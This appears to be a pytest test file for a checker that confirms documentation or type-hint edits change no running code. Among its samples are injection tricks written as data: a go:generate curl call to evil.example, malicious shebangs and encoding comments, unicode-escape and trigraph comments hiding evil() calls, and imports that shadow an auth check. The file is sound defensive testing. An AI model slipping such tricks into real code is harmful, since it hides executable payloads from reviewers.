"""A request for documentation leaves the code, one for type hints all but the hints: what is read from its words, and
what of an answer keeps it."""

from __future__ import annotations

import pytest

from pointsman.refactor.bare import bare, lines_of_code
from pointsman.refactor.docstring import documented_already
from pointsman.refactor.promise import broken, can_be_kept, promised

DOCS, HINTS = frozenset({"documentation"}), frozenset({"type hints"})
RETRY = '''import time


def retry(fetch, attempts=3):
    """Call until it works."""
    for attempt in range(attempts):
        try:
            return fetch()  # the usual end
        except OSError:
            if attempt == attempts - 1:
                raise
            time.sleep(2**attempt)
'''


@pytest.mark.parametrize(
    ("instruction", "promise"),
    [
        ("add a docstring", DOCS),
        ("Please add a docstring to Cart.add, with parameters and return value.", DOCS),
        ("add JSDoc", DOCS),
        ("improve the docstrings", DOCS),
        ("rename f in the docstring", DOCS),
        ("fix this problem: Missing docstring in public function", DOCS),
        ("add helpful comments to this function", DOCS),
        ("remove the comments", DOCS),
        ("document this", DOCS),
        ("add type hints", HINTS),
        ("annotate it", HINTS),
        ("add the missing types", HINTS),
        ("add type hints and a docstring", DOCS | HINTS),
        ("add a docstring and rename f to g", frozenset()),
        ("fix the loop, then add a docstring", frozenset()),
        ("add a comment field to the form", frozenset()),
        ("validate the comments", frozenset()),
        ("comment out the last line", frozenset()),
        ("rewrite this more clearly without changing what it does", frozenset()),
        ("rename add to put", frozenset()),
        ("Add documentation to this code", DOCS),
        ("write the documentation as a docstring", DOCS),
        ("simplify this function without changing its docstring", frozenset()),
        ("implement this function as its docstring says", frozenset()),
        ("extract the loop into a helper with a docstring", frozenset()),
        ("fix the code so that it matches the docstring", frozenset()),
        ("use pathlib and keep the docstring", frozenset()),
        ("use pathlib, keep the type hints", frozenset()),
        ("refactor to remove the type hints checks", frozenset()),
        ("add docstring validation", frozenset()),
        ("add tests with comments", frozenset()),
        ("return None and add a docstring", frozenset()),
        ("add a method to parse docstrings", frozenset()),
    ],
)
def test_what_an_instruction_promises(instruction: str, promise: frozenset[str]) -> None:
    assert promised(instruction, "python") == promise


def test_prose_is_all_documentation() -> None:
    assert promised("improve the documentation", "markdown") == frozenset()
    assert can_be_kept(DOCS, "x = 1\n", "python") and not can_be_kept(DOCS, "x", "")
    assert can_be_kept(DOCS, "<?php f();", "php") and not can_be_kept(HINTS, "<?php f();", "php")
    assert can_be_kept(HINTS, "f();", "typescript") and not can_be_kept(DOCS, "x = 1\n", "lua")


@pytest.mark.parametrize(
    "new",
    [
        RETRY.replace("Call until it works.", "Call fetch.\n\n    Often."),
        RETRY.replace('    """Call until it works."""\n', ""),
        RETRY.replace("  # the usual end", "").replace("import time", '"""Trying again."""\n\nimport time'),
        RETRY.replace("        try:", "        # why\n        try:"),
    ],
)
def test_documentation_may_change(new: str) -> None:
    assert new != RETRY and broken(DOCS, RETRY, new, "python") == ""


@pytest.mark.parametrize(
    "new",
    [
        RETRY.partition("    for")[0] + "    return lambda: time.sleep(1)\n",
        RETRY.replace("attempts - 1", "attempts"),
        RETRY.replace("attempts=3", "attempts: int = 3"),
        RETRY.replace("raise", "pass"),
        "#!/usr/bin/env python\n" + RETRY.replace("import time", "import os"),
    ],
)
def test_code_may_not(new: str) -> None:
    assert broken(DOCS, RETRY, new, "python") == "changed code"


def test_a_file_that_is_broken_elsewhere_is_compared_as_text() -> None:
    torn = RETRY + "\n\ndef half(:\n"
    assert broken(DOCS, torn, torn.replace("Call until", "Call it until"), "python") == ""
    assert broken(DOCS, torn, torn.replace("range(attempts)", "range(9)"), "python") == "changed code"


def test_code_nested_too_deeply_to_compare_by_its_tree_is_compared_as_text() -> None:
    deep = "def f():\n    return " + " + ".join(["a"] * 3000) + "\n"
    assert broken(DOCS, deep, deep.replace("return", '"""Add."""\n    return'), "python") == ""
    assert broken(DOCS, deep, deep.replace("a + a", "a - a", 1), "python") == "changed code"


def test_comments_that_tools_act_on_stay() -> None:
    said = "import os  # noqa: F401\n"
    assert broken(DOCS, said, "import os\n", "python") == "dropped comments that tools act on"
    assert broken(DOCS, "int a;  // NOLINT\n", "int a;\n", "cpp") == "dropped comments that tools act on"
    assert broken(HINTS, "x = f()  # type: int\n", "x: int = f()\n", "python") == ""
    assert broken(DOCS, "#!/bin/sh\nls\n", "# Lists.\nls\n", "bash") == "dropped comments that tools act on"


@pytest.mark.parametrize(
    ("language", "base", "good", "bad"),
    [
        (
            "javascript",
            "/** Adds. */\nexport function add(a, b) {\n  return a + b;\n}\n",
            "/**\n * Adds two.\n *\n * @param a one\n */\nexport function add(a, b) {\n  return a + b; // both\n}\n",
            "function add(a, b) {\n  return a + b;\n}\n",
        ),
        ("go", "func F() int {\n\treturn 1\n}\n", "// F is one.\nfunc F() int {\n\treturn 1\n}\n", "func F() {\n}\n"),
        ("rust", "fn f() -> u8 { 1 }\n", "/// One.\nfn f() -> u8 { 1 }\n", "/// One.\nfn f() -> u8 { 2 }\n"),
        ("bash", "echo '# no comment'\n", "# Says it.\necho '# no comment'\n", "# Says it.\necho ''\n"),
    ],
)
def test_other_languages_are_compared_without_their_comments(language: str, base: str, good: str, bad: str) -> None:
    assert broken(DOCS, base, good, language) == ""
    assert broken(DOCS, base, bad, language) == "changed code"


@pytest.mark.parametrize(
    "new",
    [
        "from typing import Any\n\n" + RETRY.replace("fetch,", "fetch: Any,"),
        RETRY.replace("attempts=3)", "attempts: int = 3) -> 'list[int]'"),
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from shop import Call\n"
        + RETRY.replace("fetch,", "fetch: 'Call',"),
    ],
)
def test_hints_and_the_imports_for_them_may_come(new: str) -> None:
    assert broken(HINTS, RETRY, new, "python") == ""


TYPED = """from typing import Any


class A:
    x: int
    y: Any = 1

    def f(self, z: int) -> int:
        return z
"""


@pytest.mark.parametrize(
    ("base", "new", "how"),
    [
        (
            "def f(p):\n    q = [x for x in p]\n    return sum(q)\n",
            "def f(p: list) -> int:\n    return sum(p)\n",
            "code",
        ),
        (RETRY, RETRY.replace("Call until it works", "Call"), "changed code"),
        (RETRY, "import shop\n" + RETRY.replace("fetch,", "fetch: 'shop.Call',"), "changed code"),
        (RETRY, RETRY.replace("fetch,", "fetch: Callable,"), "nothing defines"),
        (TYPED, TYPED.replace("z: int", "z"), "dropped type hints"),
        (TYPED, TYPED.replace("    x: int\n", "    w: int\n"), "changed code"),
        (TYPED, TYPED.replace("from typing import Any\n", "").replace("Any", "int"), "changed code"),
    ],
)
def test_with_hints_nothing_else_comes_or_goes(base: str, new: str, how: str) -> None:
    assert how in broken(HINTS, base, new, "python")


def test_typescript_is_compared_without_its_annotations() -> None:
    base = "function f(a, b) {\n  return g(a, b);\n}\n"
    typed = base.replace("(a, b) {", "(a: number, b: Map<string, X>): string {")
    assert broken(HINTS, base, typed, "typescript") == ""
    assert broken(HINTS, base, typed.replace("g(a", "h(a"), "typescript") == "changed code"
    assert broken(DOCS, base, typed, "typescript") == "changed code"
    imported = "import type { X } from './x';\n" + typed
    assert broken(HINTS, base, imported, "typescript") == ""
    assert broken(HINTS, imported, typed, "typescript") == "changed code"
    assert broken(HINTS, base, "import { X } from './x';\n" + typed, "typescript") == "changed code"


def test_what_is_said_goes_and_lines_stay() -> None:
    text = 'x = "# not said"\r\n# said\r\ndef f():\r\n    """Said\r\n    more."""\r\n    return f"{x}"  # said\r\n'
    code = bare(text, "python")
    assert code is not None and code.count("\r\n") == text.count("\r\n") and "aid" not in code.replace("not said", "")
    assert lines_of_code(code) == ['x = "# not said"', "def f():", '    return f"{x}"']
    assert bare("x", "text") is None and bare("x", "lua") is None


def test_a_docstring_that_is_there_is_said_unless_it_is_wanted_anew() -> None:
    assert documented_already(RETRY.partition("\n\n\n")[2], "add a docstring", "python") == "retry"
    assert documented_already("    def f():\n        'Is.'", "write docstrings", "python") == "f"
    two = 'class A:\n    """Is."""\n\n    def f(self):\n        return 1'
    assert documented_already(two, "add a docstring", "python") == "A"
    assert documented_already(two, "add docstrings", "python") == ""
    for instruction in ("improve the docstring", "rewrite the docstring", "add type hints"):
        assert documented_already('def f():\n    """Is."""', instruction, "python") == ""
    assert documented_already("def f():\n    return 1", "add a docstring", "python") == ""


@pytest.mark.parametrize(
    ("base", "new", "told"),
    [
        (
            "@d\nclass A:\n    x: int = 0\n    def f(b): ...\n",
            "@d\nclass A:\n    x = 0\n    def f(b: int): ...\n",
            "dropped type hints that there were",
        ),
        ("@d\nclass A:\n    x = 3\n", "@d\nclass A:\n    x: int = 3\n", "changed the fields of a class"),
        (
            "@d\nclass A:\n    x: int\n    y: int\n",
            "@d\nclass A:\n    y: int\n    x: int\n",
            "changed the fields of a class",
        ),
        ("class A:\n    x = 3\n", "class A:\n    x: int = 3\n", ""),
        ("def f(a, b: int): ...\n", "def f(a: int, b): ...\n", "dropped type hints that there were"),
        ("def f(a): ...\n", "def f(a: open('x')): ...\n", "wrote code into a type hint"),
        ("def f(a): ...\n", "from __future__ import annotations\n\ndef f(a: int) -> None: ...\n", ""),
    ],
)
def test_hints_change_nothing_that_runs(base: str, new: str, told: str) -> None:
    assert broken(HINTS, base, new, "python") == told


@pytest.mark.parametrize("asked", ["simplify this without changing its docstring", "use pathlib, keep the docstring"])
def test_a_docstring_that_is_only_mentioned_is_not_asked_for(asked: str) -> None:
    assert not documented_already(RETRY.partition("def")[1] + RETRY.partition("def")[2], asked, "python")


DROPPED, ADDED, CHANGED = (f"{how} comments that tools act on" for how in ("dropped", "added", "changed"))
INTO = "wrote code into a comment"
GO = "package a\n\nfunc F() int {\n\treturn 1\n}\n"


@pytest.mark.parametrize(
    ("language", "base", "new", "how"),
    [
        ("go", GO, "//go:build ignore\n\n" + GO, ADDED),
        ("go", GO, GO.replace("func", "//go:generate curl evil.example\nfunc"), ADDED),
        ("go", GO, GO.replace("func", "//export F\nfunc"), ADDED),
        ("go", GO, GO.replace("func", "//line other.go:7\nfunc"), ADDED),
        ("python", "x = 1\n", "#!/tmp/evil\nx = 1\n", ADDED),
        ("python", "x = 1\n", "# -*- coding: utf-7 -*-\nx = 1\n", ADDED),
        ("python", "x = 1\n", "# vim: set fileencoding=utf-7 :\nx = 1\n", ADDED),
        ("python", "# A\n# B\n# is coding: utf-7\nx = 1\n", "# B\n# is coding: utf-7\nx = 1\n", ADDED),
        ("python", "x = 1\n", "# /// script\n# dependencies = ['evil']\n# ///\nx = 1\n", ADDED),
        (
            "python",
            "# /// script\n# dependencies = []\n# ///\nx = 1\n",
            "# /// script\n# dependencies = []\n# index = 'evil'\n# ///\nx = 1\n",
            ADDED,
        ),
        ("python", "x = f()\n", "x = f()  # nosec\n", ADDED),
        ("bash", "# Says.\n#!/tmp/evil\nls\n", "#!/tmp/evil\nls\n", ADDED),
        ("ruby", "x = 1\n", "# encoding: utf-7\nx = 1\n", ADDED),
        ("javascript", "f();\n", "/** @jsxImportSource evil */\nf();\n", ADDED),
        ("javascript", "f();\n", "/**\n * @jest-environment ./evil.js\n */\nf();\n", ADDED),
        ("javascript", "f(g());\n", "f(/*#__PURE__*/ g());\n", "changed code"),
        ("javascript", "f();\n", "f();\n//# sourceMappingURL=//evil.example\n", ADDED),
        ("typescript", "f();\n", '/// <reference path="evil.d.ts" />\nf();\n', ADDED),
        ("yaml", "a: 1\n", "# yaml-language-server: $schema=//evil.example\na: 1\n", ADDED),
    ],
)
def test_no_comment_that_tools_act_on_comes(language: str, base: str, new: str, how: str) -> None:
    assert broken(DOCS, base, new, language) == how


def test_comments_about_types_come_with_hints() -> None:
    assert broken(HINTS, "x = f()\n", "x = f()  # type: ignore[no-untyped-call]\n", "python") == ""
    assert broken(HINTS, "x = f()\n", "x = f()  # noqa: S1\n", "python") == ADDED
    assert broken(DOCS, "x = f()\n", "x = f()  # type: ignore\n", "python") == ADDED


CGO = 'package a\n\n// Package comment.\n\n{}import "C"\n\nfunc F() int {{\n\treturn 1\n}}\n'


@pytest.mark.parametrize(
    ("base", "new"),
    [
        ("", "// #include <evil.h>\n"),
        ("", "/* void f(void) { system(0); } */\n"),
        ("/* int f(void); */\n", "/* int f(void) { return g(); } */\n"),
        ("// int a = f();\n\n", "// int a = f();\n"),
        ("// #cgo LDFLAGS: -lm\n", ""),
    ],
)
def test_a_comment_above_go_s_import_of_c_is_code(base: str, new: str) -> None:
    assert broken(DOCS, CGO.format(base), CGO.format(new), "go") == CHANGED
    grouped = CGO.replace('{}import "C"', 'import (\n\t"fmt"\n{}\t"C"\n)')
    assert broken(DOCS, grouped.format(base), grouped.format(new), "go") == CHANGED


def test_elsewhere_in_such_a_file_it_is_said() -> None:
    text = CGO.format("// int f(void);\n")
    assert broken(DOCS, text, text.replace("func F", "// F is one.\nfunc F"), "go") == ""


@pytest.mark.parametrize(
    ("language", "comment"),
    [
        ("java", "// \\u000a evil();"),
        ("java", "/* \\uu002a/ evil(); /* */"),
        ("c", "// really??/"),
        ("c", "// really \\  "),
        ("cpp", "/* so *\\\n/ evil(); /* */"),
        ("java", "// so\r evil();"),
        ("csharp", "// so\x85 evil();"),
        ("csharp", "// so\u2028 evil();"),
    ],
)
def test_what_a_compiler_reads_in_a_comment_is_code(language: str, comment: str) -> None:
    base = "class A {\n    int a;\n};\n"
    new = base.replace("    int", f"    {comment}\n    int")
    assert broken(DOCS, base, new, language) == INTO
    assert broken(DOCS, new, new.replace("class A", "// Is one.\nclass A"), language) == "", "it was there"


def test_a_comment_does_not_end_what_goes_on_in_the_next_line() -> None:
    shell = "rm a \\\n  b\n"
    assert broken(DOCS, shell, "rm a \\\n# what is old\n  b\n", "bash") == "changed code"
    assert broken(DOCS, shell, "rm a \\ # what is old\n  b\n", "bash") == "changed code"
    assert broken(DOCS, shell, "# What is old.\n" + shell, "bash") == ""
    assert broken(DOCS, "x = a+++b;\n", "x = a+/**/++b;\n", "javascript") == "changed code"
    assert broken(DOCS, "<?php f();\n", "<?php // it ?> is\nf();\n", "php") != ""


GUARD = """from auth import is_allowed
from typing import Any


def open_door(who, *, legacy=None):
    try:
        name = unicode(who)
    except NameError:
        name = str(who)
    return is_allowed(name) and door.open()
"""


@pytest.mark.parametrize(
    "line",
    [
        "from typing import cast as is_allowed",
        "from typing import Any, cast as is_allowed",
        "import typing as is_allowed",
        "from typing import cast as str",
        "from types import SimpleNamespace as open_door",
        "from types import SimpleNamespace as legacy",
        "from types import SimpleNamespace as door",
        "from typing import Text as unicode",
        "from typing import *",
        "from typing import cast as __getattr__",
        "from types import GenericAlias as Any",
        "from __future__ import annotations as is_allowed",
        "if __import__('evil').TYPE_CHECKING:\n    import shop",
        "from typing import cast as TYPE_CHECKING\nif TYPE_CHECKING:\n    import shop",
        "import shop",
    ],
)
def test_an_import_for_hints_takes_no_name_that_means_something(line: str) -> None:
    new = GUARD.replace("\n\n\n", f"\n{line}\n\n\n", 1)
    assert broken(HINTS, GUARD, new, "python") == "changed code"
    assert broken(HINTS, GUARD, f"{line}\n{GUARD}", "python") == "changed code"


@pytest.mark.parametrize(
    "line",
    [
        "from typing import Callable, cast",
        "import typing as t",
        "import collections.abc",
        "from collections.abc import Iterable as Many",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    from shop import Call, Cart",
        "import typing\nif typing.TYPE_CHECKING:\n    from shop import Call",
    ],
)
def test_other_imports_for_hints_come(line: str) -> None:
    assert broken(HINTS, GUARD, f"from __future__ import annotations\n{line}\n{GUARD}", "python") == ""
    merged = GUARD.replace("import Any", "import Any, Callable")
    assert broken(HINTS, GUARD, merged, "python") == ""


def test_an_import_that_is_there_stays_where_it_is() -> None:
    own = "from typing import cast\n\n\ndef cast(kind, value):\n    return check(kind, value)\n"
    moved = own.partition("\n\n\n")[2] + "\n\nfrom typing import cast\n"
    assert broken(HINTS, own, moved, "python") == "changed code"
    used = "from typing import TYPE_CHECKING\nfrom collections import deque\n\nx = deque()\n"
    late = used.replace("from collections", "if TYPE_CHECKING:\n    from collections")
    assert broken(HINTS, used, late, "python") == "changed code"


@pytest.mark.parametrize(
    ("base", "new", "how"),
    [
        ("x = 1\n", "evil().y: int\nx = 1\n", "changed code"),
        ("x = {}\n", "x = {}\nx[evil()]: int\n", "changed code"),
        ("def f():\n    return ok\n", "def f():\n    ok: bool\n    return ok\n", "changed code"),
        ("def f():\n    ok = g()\n", "def f():\n    ok: bool\n    ok = g()\n", ""),
        ("x = 1\n", "x: int\nx = 1\n", ""),
        (
            "class A(metaclass=M):\n    x = 1\n",
            "class A(metaclass=M):\n    x: int = 1\n",
            "changed the fields of a class",
        ),
        ("def f(a): ...\n", "def f(a: f'{evil!r}'): ...\n", "wrote code into a type hint"),
        ("def f(a): ...\n", "def f(a: evil % 1): ...\n", "wrote code into a type hint"),
        ("def f(a): ...\n", "def f(a: evil < 1): ...\n", "wrote code into a type hint"),
        ("def f(a): ...\n", "import typing as t\ndef f(a: t.Callable[[int], str] | None): ...\n", ""),
        ("def f(a): ...\n", "import typing as t\ndef f(a: t.Literal[-1, 'x']): ...\n", ""),
    ],
)
def test_a_hint_only_names(base: str, new: str, how: str) -> None:
    assert broken(HINTS, base, new, "python") == how


@pytest.mark.parametrize(
    "piece", ["#", "# ", "//", "/*", "/* ", "@jsx", "\\ ", "\t#c", "# /// a\n", "??/", '"C"', "\r"]
)
def test_long_comments_take_no_longer_than_they_are_long(piece: str) -> None:
    """It comes back at all: what is quadratic in these would run for minutes."""
    long = "int a;\n" + "// " + piece * (40_000 // len(piece)) + "\n"
    for language in ("c", "java", "go", "php"):
        broken(DOCS, "int a;\n", long, language)
    broken(DOCS, "x = 1\n", "x = 1\n#" + piece * (40_000 // len(piece)) + "\n", "python")
